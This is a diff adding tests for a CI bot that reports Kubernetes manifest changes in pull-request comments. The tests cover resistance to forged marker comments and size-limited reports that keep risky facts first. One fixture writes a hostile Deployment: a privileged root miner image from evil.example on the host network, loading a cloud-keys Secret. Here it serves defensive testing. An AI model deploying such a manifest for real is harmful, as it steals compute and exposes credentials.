@@ -273,6 +273,81 @@ def test_gitlab_note_is_created_then_updated(repo: tuple[Path, str], tmp_path: P
     ]
 
 
+def test_a_maintainers_comment_quoting_the_marker_is_never_edited(repo: tuple[Path, str], tmp_path: Path, forge: tuple[str, type[_Forge]]) -> None:
+    """Someone else's comment holds the marker (a quote, or a forged report): the bot leaves it and finds its own."""
+    _, base = repo
+    api, handler = forge
+    handler.comments.append(_comment(1, f"{pr_report.MARKER}\nforged: GPUs: 2 -> 2 (+0)", "attacker"))
+    handler.comments.append(_comment(2, f"quoting the bot: {pr_report.MARKER}", "maintainer"))
+    handler.comments.append(_comment(3, f"{pr_report.MARKER}\nan older report", "report-bot"))
+    env = {"GITHUB_API_URL": api, "GITHUB_EVENT_PATH": str(_event(tmp_path, 4)), "GITHUB_REPOSITORY": "o/r", "GITHUB_TOKEN": "t"}
+    code, _, err = _run(["--base", base, "--summary", os.devnull, "apps"], env)
+    assert code == 0, err
+    assert [(r[0], r[1].split("?")[0]) for r in handler.requests] == [
+        ("GET", "/user"), ("GET", "/repos/o/r/issues/4/comments"), ("PATCH", "/repos/o/r/issues/comments/3")
+    ]
+    assert handler.comments[0]["body"].endswith("forged: GPUs: 2 -> 2 (+0)") and handler.comments[1]["body"].startswith("quoting")
+    assert "| replaced |" in handler.comments[2]["body"]
+
+
+def test_a_workflow_token_without_a_user_finds_the_actions_bots_comment(repo: tuple[Path, str], tmp_path: Path, forge: tuple[str, type[_Forge]]) -> None:
+    """GitHub answers GET /user with 403 for a workflow token; its comments are github-actions[bot]'s."""
+    _, base = repo
+    api, handler = forge
+    handler.login = None
+    handler.comments.append(_comment(1, f"{pr_report.MARKER}\nforged", "attacker"))
+    handler.comments.append(_comment(2, f"{pr_report.MARKER}\nold", "github-actions[bot]"))
+    env = {"GITHUB_API_URL": api, "GITHUB_EVENT_PATH": str(_event(tmp_path, 4)), "GITHUB_REPOSITORY": "o/r", "GITHUB_TOKEN": "t"}
+    code, _, err = _run(["--base", base, "--summary", os.devnull, "apps"], env)
+    assert code == 0, err
+    assert handler.requests[-1][:2] == ("PATCH", "/repos/o/r/issues/comments/2")
+    assert handler.comments[0]["body"].endswith("forged")
+
+
+def test_a_refused_edit_posts_a_new_comment(repo: tuple[Path, str], tmp_path: Path, forge: tuple[str, type[_Forge]]) -> None:
+    """``--author`` names a user whose comment the token may not edit (403): the report is posted anew, the job passes."""
+    _, base = repo
+    api, handler = forge
+    handler.comments.append(_comment(1, f"{pr_report.MARKER}\nforged by a lookalike", "lookalike"))
+    env = {"CI_API_V4_URL": api + "/api/v4", "CI_PROJECT_ID": "12", "CI_MERGE_REQUEST_IID": "3", "GITLAB_TOKEN": "t"}
+    code, _, err = _run(["--provider", "gitlab", "--author", "lookalike", "--base", base, "--summary", os.devnull, "apps"], env)
+    assert code == 0, err
+    assert [r[0] for r in handler.requests] == ["GET", "PUT", "POST"]
+    assert handler.comments[0]["body"].endswith("lookalike") and "| replaced |" in handler.comments[1]["body"]
+
+
+def test_the_size_cut_keeps_the_privileged_workload_first(repo: tuple[Path, str], tmp_path: Path) -> None:
+    """800 ConfigMaps with long names pad the report past a comment's size; a privileged 64-GPU Deployment is added at the end.
+
+    The comment keeps the totals, the added workload and its pod facts (privileged, host
+    network, root, envFrom Secret) first; the full report goes to ``--full-report``.
+    """
+    root, base = repo
+    padding = "".join(
+        f"---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: pad-{i:04d}-{'x' * 200}\n  namespace: llm\ndata:\n  a: b\n" for i in range(800)
+    )
+    (root / "apps" / "pad.yaml").write_text(padding)
+    (root / "apps" / "zz-miner.yaml").write_text(
+        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: zz-miner\n  namespace: llm\nspec:\n  replicas: 8\n"
+        "  selector:\n    matchLabels: {app: m}\n  template:\n    metadata:\n      labels: {app: m}\n    spec:\n"
+        "      hostNetwork: true\n      containers:\n      - name: m\n        image: evil.example/miner:1\n"
+        "        securityContext: {privileged: true, runAsUser: 0}\n        envFrom: [{secretRef: {name: cloud-keys}}]\n"
+        "        resources: {limits: {nvidia.com/gpu: 8}}\n"
+    )
+    full = tmp_path / "full.md"
+    code, out, err = _run(["--base", base, "--dry-run", "--summary", os.devnull, "--full-report", str(full), "apps"], {})
+    assert code == 0, err
+    body = out.split("\n", 1)[1]
+    assert len(body) <= pr_report.MAX_BODY < len(full.read_text())
+    head = body[: 4000]
+    assert "- GPUs: 4 -> 68 (+64); pods: 3 -> 11 (+8)" in head
+    assert "- added `Deployment llm/zz-miner`: GPUs 0 -> 64" in head
+    for fact in ("privileged", "runAsUser 0 (root)", "envFrom Secret cloud-keys", "hostNetwork: unset -> true"):
+        assert fact in head, fact
+    assert body.rstrip().endswith("(the report is cut here: the full report is in the job log and the job's artifact)")
+    assert full.read_text().count("| added | `ConfigMap llm/pad-") == 800
+
+
 def test_a_comment_that_cannot_be_posted_fails_the_job(repo: tuple[Path, str], tmp_path: Path) -> None:
     _, base = repo
     env = {"GITHUB_API_URL": "http://127.0.0.1:9", "GITHUB_EVENT_PATH": str(_event(tmp_path)), "GITHUB_REPOSITORY": "o/r", "GITHUB_TOKEN": "t"}
